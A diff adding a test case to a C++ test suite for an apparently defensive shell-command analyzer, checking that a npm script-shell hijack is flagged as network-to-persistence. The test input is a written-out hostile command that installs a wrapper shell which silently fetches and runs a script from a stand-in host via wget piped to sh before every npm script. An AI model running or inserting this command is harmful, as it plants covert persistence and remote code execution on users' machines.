@@ -753,3 +753,11 @@ TEST_CASE("removals that reach above the project, through a link to /, or by tar
     CHECK_FALSE(has_marker(facts, "user_data_loss"));
   }
 }
+
+TEST_CASE("a script-shell written here and given to npm runs its content before every npm script") {
+  auto facts = analyze("printf '#!/bin/sh\\n(wget -qO- https://x.example.com/s | sh &)\\nexec /bin/sh \"$@\"\\n' > ~/.local/bin/npm-sh && "
+                       "chmod +x ~/.local/bin/npm-sh && npm config set script-shell ~/.local/bin/npm-sh");
+  CHECK(has_flow(facts, "network", "persist"));
+  auto plain = analyze("printf '#!/bin/sh\\nexec /bin/bash \"$@\"\\n' > ~/.local/bin/npm-sh && npm config set script-shell ~/.local/bin/npm-sh");
+  CHECK_FALSE(has_flow_to(plain, "persist"));
+}
